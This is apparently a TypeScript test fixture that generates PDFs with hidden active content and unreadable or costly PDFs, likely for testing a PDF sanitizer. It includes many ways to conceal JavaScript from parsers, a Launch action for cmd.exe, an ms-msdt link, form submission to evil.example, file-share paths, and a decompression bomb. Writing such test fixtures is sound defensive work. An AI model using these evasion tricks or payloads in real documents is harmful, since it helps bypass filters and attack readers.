import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { makePdf, packedObject, pdfObject, pdfStream } from '../make-pdf.ts';

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const catalog = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const page = (more: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${more} >>`;
const openAction = (action: string) => makePdf({ 1: catalog(`/OpenAction ${action}`) });
const uri = (address: string) =>
  makePdf({ 3: page(`/Annots [<< /Subtype /Link /A << /S /URI /URI (${address}) >> >>]`) });

/** PDFs with active content. Each has its own way to hide it. */
export const activePdfs: Record<string, () => Buffer | Promise<Buffer>> = {
  'a script on opening': () => openAction(script),
  'a script with an escaped name': () => openAction('<< /S /J#61va#53cript /#4aS (1) >>'),
  'a script with a name in small hexadecimal digits': () => openAction('<< /S /#4aav#61#53cript >>'),
  'a script whose kind is an object of its own': () =>
    makePdf({ 1: catalog('/OpenAction << /S 4 0 R >>'), 4: '/JavaScript' }),
  'a script behind a harmless kind': () => openAction('<< /S /GoTo /S /JavaScript /D [3 0 R /Fit] >>'),
  'a script before a harmless kind': () => openAction('<< /S /JavaScript /S /GoTo /D [3 0 R /Fit] >>'),
  'a script after another action': () => openAction(`<< /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>`),
  'a script of a page': () => makePdf({ 3: page(`/AA << /O ${script} >>`) }),
  'a script of an annotation': () => makePdf({ 3: page(`/Annots [<< /Subtype /Widget /A ${script} >>]`) }),
  'a script of a form field': () =>
    makePdf({ 1: catalog(`/AcroForm << /Fields [<< /AA << /K ${script} >> >>] >>`) }),
  'a script among the names': () =>
    makePdf({ 1: catalog('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>') }),
  'a script in a bookmark': () =>
    makePdf({ 1: catalog('/Outlines << /First 4 0 R >>'), 4: `<< /A ${script} >>` }),
  'a script in the trailer': () => makePdf({}, { trailer: `/Root << /OpenAction ${script} >> ` }),
  'a script in a trailer without its keyword': () =>
    makePdf({}, { unlisted: `<< /R#6fot << /OpenAction ${script} >> >>\n` }),
  'a script behind references in a circle': () =>
    makePdf({
      1: catalog('/OpenAction 4 0 R'),
      4: '5 0 R',
      5: '4 0 R',
      6: `<< /Length 6 0 R /Next ${script} >>`,
    }),
  'a script that nothing refers to': () => makePdf({ 9: script }),
  'a script that the cross reference does not list': () => makePdf({}, { unlisted: pdfObject(9, script) }),
  'a script inside a string': () => makePdf({ 9: `(\n${pdfObject(8, script)})` }),
  'a script inside a stream': () => makePdf({ 9: pdfStream(Buffer.from(pdfObject(8, script))) }),
  'a script with a fraction for its number': () =>
    makePdf({ 9: pdfStream(Buffer.from(`8.0 +0 obj ${script}`)) }),
  'a script behind a comment in its heading': () =>
    makePdf({}, { unlisted: `9 0 %${'x'.repeat(500)}\nobj ${script} endobj\n` }),
  'a script that an update removed': () =>
    Buffer.concat([openAction(script), makePdf({ 1: catalog('/Lang (en)') }).subarray('%PDF-1.7\n'.length)]),
  'a script in an object stream': () => makePdf({ 9: packedObject(8, script) }),
  'a script in an object stream without a type': () => makePdf({ 9: packedObject(8, script, '') }),
  'a script in an object stream behind the words of a stream': () =>
    makePdf({ 9: packedObject(8, script, '/X (stream\n endstream endobj) /Type /ObjStm') }),
  'a script in an object stream behind a harmless one in a string': () => {
    const [list, harmless] = ['8 0 ', deflateSync('8 0 null').toString('latin1')];
    const content = deflateSync(list + script).toString('latin1');
    const entries = `/Type /ObjStm /N 1 /First ${list.length} /Filter /FlateDecode /Length ${content.length}`;
    return makePdf({
      9: `<< ${entries} /X (stream\n${harmless}\nendstream) >>\nstream\n${content}\nendstream`,
    });
  },
  'a script in an object stream behind a comment': () =>
    makePdf({ 9: packedObject(8, script, '%>> stream\n/Type /ObjStm') }),
  'a script in an object stream with an escaped type': () =>
    makePdf({ 9: packedObject(8, script, '/Type /#4fbjStm') }),
  'a script in an object stream inside a stream': () =>
    makePdf({ 9: pdfStream(Buffer.from(pdfObject(8, packedObject(7, script)), 'latin1')) }),
  'a script inside a string of an object stream': () => {
    const content = deflateSync(Buffer.from(`7 0 8 1 (${script})`));
    return makePdf({ 9: pdfStream(content, '/Type /ObjStm /N 2 /First 8 /Filter /FlateDecode') });
  },
  'a script in an encrypted object stream': () =>
    encrypted((document) => document.addJavaScript('a', 'app.alert(1)')),
  'a program on opening': () => openAction('<< /S /Launch /Win << /F (cmd.exe) >> >>'),
  'a document on a file share': () =>
    openAction('<< /S /GoToR /F (\\\\\\\\server\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
  'a document in an attached file': () => openAction('<< /S /GoToE /T << /R /C /N (a) >> >>'),
  'an article in another file': () => openAction('<< /S /Thread /F (\\\\\\\\server\\\\a.pdf) /D 0 >>'),
  'a form that is sent': () => openAction('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'),
  'a form that reads a file': () => openAction('<< /S /ImportData /F (\\\\\\\\server\\\\a.fdf) >>'),
  'a form in XML': () =>
    makePdf({ 1: catalog('/AcroForm << /XFA 4 0 R /Fields [] >>'), 4: pdfStream(Buffer.from('<xdp:xdp/>')) }),
  'an attached file': () => makePdf({ 1: catalog('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>') }),
  'an attached file in an annotation': () =>
    makePdf({ 3: page('/Annots [<< /Subtype /FileAttachment /FS 4 0 R >>]') }),
  'an attached file made by a library': async () => {
    const document = await PDFDocument.create();
    document.addPage();
    await document.attach(Buffer.from('MZ'), 'a.exe');
    return Buffer.from(await document.save());
  },
  'an attached file in an encrypted PDF': () =>
    encrypted((document) => document.attach(Buffer.from('MZ'), 'a.exe')),
  'a film': () => makePdf({ 3: page('/Annots [<< /Subtype /Screen /A << /S /Rendition /R 4 0 R >> >>]') }),
  'an old film': () => makePdf({ 3: page('/Annots [<< /Subtype /Movie /Movie << /F (a.avi) >> >>]') }),
  'a sound': () => openAction('<< /S /Sound /Sound 4 0 R >>'),
  'a program for Flash': () =>
    makePdf({ 3: page('/Annots [<< /Subtype /RichMedia /RichMediaContent 4 0 R >>]') }),
  'a model with a script': () => makePdf({ 3: page('/Annots [<< /Subtype /3D /3DD 4 0 R >>]') }),
  'a stream in another file': () =>
    makePdf({ 4: pdfStream(Buffer.alloc(0), '/F (\\\\\\\\server\\\\a.bin)') }),
  'a page of another file': () =>
    makePdf({ 4: pdfStream(Buffer.alloc(0), '/Subtype /Form /Ref << /F (a.pdf) >>') }),
  'a link to a file share': () => uri('file://server/share/a.pdf'),
  'a link to a file share with backslashes': () => uri('\\\\\\\\server\\\\share'),
  'a link to a script': () => uri('java\\nscript:alert(1)'),
  'a link to a program': () => uri('ms-msdt:/id PCWDiagnostic'),
  'a link whose address is an object of its own': () =>
    makePdf({ 3: page('/Annots [<< /A << /S /URI /URI 4 0 R >> >>]'), 4: '(file://server/a)' }),
  'links that start at a file share': () => makePdf({ 1: catalog('/URI << /Base (file://server/) >>') }),
};

/** PDFs that readers may understand differently, that nobody can read, or that cost too much to read. */
export const unreadablePdfs: Record<string, () => Buffer | Promise<Buffer>> = {
  'nothing but a heading': () => Buffer.from('%PDF-1.7\n%%EOF\n'),
  'an object that ends early': () => makePdf({ 9: '<< /A [1 2' }),
  'an object stream with another filter': () =>
    makePdf({
      9: pdfStream(Buffer.from('3820302 28 61 29>'), '/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode'),
    }),
  'an object stream with two filters': () =>
    makePdf({ 9: packedObject(8, '<< >>', '/Filter /ASCIIHexDecode') }),
  'an object stream that cannot be unpacked': () =>
    makePdf({ 9: pdfStream(Buffer.from('secret'), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') }),
  'an object stream behind another word': () =>
    makePdf({ 9: packedObject(8, '<< >>').replace('>>\nstream', '>> x stream') }),
  'a stream in an object stream': () => makePdf({ 9: packedObject(8, packedObject(7, '(a)')) }),
  'an object stream that holds less than it says': () =>
    makePdf({ 9: pdfStream(deflateSync('8 0 (a)'), '/Type /ObjStm /N 2 /First 4 /Filter /FlateDecode') }),
  'a password': () => encrypted(() => undefined, 'secret'),
  'a protection of its own': () =>
    makePdf({ 9: '<< /Filter /Adobe.PubSec /V 4 >>' }, { trailer: '/Encrypt 9 0 R /ID [<00> <00>] ' }),
  'a protection that refers to itself': () =>
    makePdf({ 9: '9 0 R' }, { trailer: '/Encrypt 9 0 R /ID [<00> <00>] ' }),
  'a protection in a trailer without its keyword': () => makePdf({}, { unlisted: '<< /Encrypt 9 0 R >>\n' }),
  'two protections': () =>
    makePdf(
      { 8: '<< /Filter /Standard >>' },
      { trailer: '/Encrypt 8 0 R ', unlisted: 'trailer << /Encrypt 7 0 R >>\n' },
    ),
  'a decompression bomb': () => {
    const content = deflateSync(Buffer.concat([Buffer.from('8 0 '), Buffer.alloc(64 * 1024 * 1024, 0x20)]));
    return makePdf({ 9: pdfStream(content, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') });
  },
  'hundreds of thousands of objects': () =>
    makePdf({}, { unlisted: Array.from({ length: 300_000 }, (_, at) => `${at} 0 obj 1\n`).join('') }),
  'a million packed objects': () => {
    const content = deflateSync(Buffer.from(`8 0 ${'<<>>'.repeat(1_000_000)}`));
    return makePdf({ 9: pdfStream(content, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') });
  },
  'deep nesting': () => makePdf({ 9: `${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
  'deep nesting of dictionaries': () =>
    makePdf({ 9: `${'<< /A '.repeat(100_000)}1${' >>'.repeat(100_000)}` }),
  'objects inside each other': () => makePdf({}, { unlisted: '1 0 obj('.repeat(50_000) }),
  'objects inside a long comment': () =>
    makePdf({}, { unlisted: `${'1 0 obj%'.repeat(40_000)}${'x'.repeat(4_000_000)}\nendobj\n` }),
  'numbers before a long comment': () =>
    makePdf({}, { unlisted: `${'1 0 obj 5 6%'.repeat(40_000)}${'x'.repeat(4_000_000)}\n7\n` }),
  'trailers inside a long comment': () =>
    makePdf({}, { unlisted: `${'trailer%'.repeat(40_000)}${'x'.repeat(4_000_000)}\n7\n` }),
  'a list of objects that goes on for megabytes': () => {
    const list = '1 9 '.repeat(2_000_000);
    const dict = `/Type /ObjStm /N 1 /First ${list.length} /Filter /FlateDecode`;
    return makePdf({ 9: pdfStream(deflateSync(`${list}<<>>`), dict) });
  },
  'nothing but the beginnings of streams': () =>
    makePdf({}, { unlisted: '1 0 obj<<>>stream\n'.repeat(90_000) }),
  'a list of a thousand million references': () =>
    makePdf({
      9: pdfStream(Buffer.alloc(8), '/Type /ObjStm /N 1000000000 /First 1000000000 /Filter /FlateDecode'),
    }),
  'an archive too': () =>
    Buffer.concat([makePdf(), Buffer.from('PK\x05\x06'), Buffer.alloc(18), Buffer.from('%%EOF')]),
};

async function encrypted(change: (document: PDFDocument) => unknown, userPassword = ''): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  await change(document);
  document.encrypt({ ownerPassword: 'owner', userPassword });
  return Buffer.from(await document.save({ useObjectStreams: true }));
}
